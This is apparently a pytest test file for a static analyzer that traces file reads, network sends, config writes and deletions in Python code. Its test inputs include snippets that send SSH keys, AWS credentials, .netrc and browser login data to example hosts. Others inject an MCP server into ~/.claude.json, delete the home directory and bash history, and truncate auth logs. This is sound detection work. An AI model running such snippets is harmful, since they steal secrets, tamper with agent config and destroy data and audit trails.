"""Dictionaries of Python programs: their members, what is put into them, and their text as JSON."""

from __future__ import annotations

import time

import pytest

from pinfold.language.context import Context
from pinfold.language.python import program as python
from pinfold.model import Act, Place

IMPORTS = "import os, json, requests, httpx, shutil, pathlib, tempfile, sqlite3\n"


def acts_of(source: str) -> list[Act]:
    """Return the acts of a source."""
    context = Context(place=lambda start, end: Place("x.py", line=start, column=end))
    return python.acts(IMPORTS + source, context)


def fields_of(source: str, kind: str, name: str) -> list[str]:
    """Return one field of all acts of a kind."""
    return [str(act.fields[name]) for act in acts_of(source) if act.kind == kind and name in act.fields]


@pytest.mark.parametrize(
    "loop",
    [
        "for k, v in P.items(): open(v)",
        "for v in P.values(): open(v)",
        "for k in P: open(P[k])",
        "for k in P.keys(): open(P[k])",
        "[open(v) for k, v in P.items()]",
        "for i, v in enumerate(P.values()): open(v)",
        "for n in ('a', 'b'):\n    for k, v in P.items():\n        open(v)",
    ],
)
def test_a_loop_goes_through_a_dictionary(loop: str) -> None:
    found = fields_of(f"P = {{'a': '~/.ssh/id_rsa', 'b': '~/.aws/credentials'}}\n{loop}", "read", "TargetFilename")
    assert {"~/.ssh/id_rsa", "~/.aws/credentials"} <= set(found)


@pytest.mark.parametrize(
    "steps",
    [
        "d['mcpServers']['x'] = {'command': 'npx'}",
        "d.setdefault('mcpServers', {})['x'] = {'command': 'npx'}",
        "d.setdefault('mcpServers', {}).setdefault('x', {})['command'] = 'npx'",
        "d['mcpServers'] = {'x': {'command': 'npx'}}",
    ],
)
@pytest.mark.parametrize("written", ["p.write_text(json.dumps(d, indent=2))", "json.dump(d, open(p, 'w'))"])
def test_what_is_put_in_step_by_step_is_written(steps: str, written: str) -> None:
    source = f"p = pathlib.Path('~/.claude.json')\nd = json.loads(p.read_text())\n{steps}\n{written}"
    assert '{"mcpServers": {"x": {"command": "npx"}}}' in fields_of(source, "write", "Content")


def test_json_keeps_what_it_holds() -> None:
    source = "d = {'k': open('~/.ssh/id_rsa').read(), 'n': 1}\nrequests.post('https://a.example/', data=json.dumps(d))"
    assert fields_of(source, "connect", "SentData") == ["~/.ssh/id_rsa"]


def test_lists_that_share_members_cost_no_more_than_they_show() -> None:
    source = "a = ['x'] * 2\n" + "".join(
        f"{name} = [{', '.join([before] * 60)}]\n" for before, name in zip("abcdefg", "bcdefgh", strict=True)
    )
    began = time.process_time()
    acts_of(source + "open('/srv/x', 'w').write(json.dumps(h))")
    assert time.process_time() - began < 2


def test_a_class_keeps_what_it_is_set_to() -> None:
    source = """
class Settings:
    url = "https://a.example/in"
    paths = {"k": "~/.ssh/id_rsa"}

class Sender:
    hosts = ["b.example"]
    def __init__(self, settings):
        self.settings = settings
        self.kept = {}
    def gather(self):
        for name, path in self.settings.paths.items():
            self.kept[name] = open(path).read()
        return self
    def send(self):
        requests.post(self.settings.url, json=self.kept)
        requests.get("https://" + self.hosts[0])

Sender(Settings()).gather().send()
"""
    assert {"https://a.example/in", "https://b.example"} <= set(fields_of(source, "connect", "Url"))
    assert "~/.ssh/id_rsa" in fields_of(source, "connect", "SentData")


def test_a_client_asks_below_its_base() -> None:
    source = "with httpx.Client(base_url='https://a.example/v1') as c:\n    c.post('/in', data=open('~/.netrc').read())"
    assert fields_of(source, "connect", "Url") == ["https://a.example/v1/in"]
    assert fields_of(source, "connect", "SentData") == ["~/.netrc"]


def test_a_copy_in_a_scratch_file_is_followed() -> None:
    source = (
        "t = tempfile.mktemp()\nshutil.copy2('~/x/Login Data', t)\n"
        "rows = sqlite3.connect(t).execute('select').fetchall()\n"
        "requests.post('https://a.example/', json={'r': rows})"
    )
    assert any("~/x/Login Data" in sent for sent in fields_of(source, "connect", "SentData"))


@pytest.mark.parametrize(
    ("removed", "line"),
    [
        ("shutil.rmtree(os.path.expanduser('~'))", "rm -rf ~"),
        ("for r, _, fs in os.walk('/home'):\n    for f in fs:\n        os.remove(os.path.join(r, f))", "rm /home/*"),
        ("pathlib.Path('~/.bash_history').unlink()", "rm ~/.bash_history"),
    ],
)
def test_what_is_removed_is_told_as_of_rm(removed: str, line: str) -> None:
    assert line in fields_of(removed, "exec", "CommandLine")


@pytest.mark.parametrize("removed", ["shutil.rmtree(build)", "os.remove('/tmp/x')", "shutil.rmtree('dist')"])
def test_a_program_removes_its_own_unseen(removed: str) -> None:
    assert fields_of(removed, "exec", "CommandLine") == []


@pytest.mark.parametrize("emptied", ["open(p, 'w').close()", "pathlib.Path(p).write_text('')", "os.truncate(p, 0)"])
def test_an_emptied_file_has_no_content(emptied: str) -> None:
    assert [text.strip() for text in fields_of(f"p = '/var/log/auth.log'\n{emptied}", "write", "Content")] == [""]
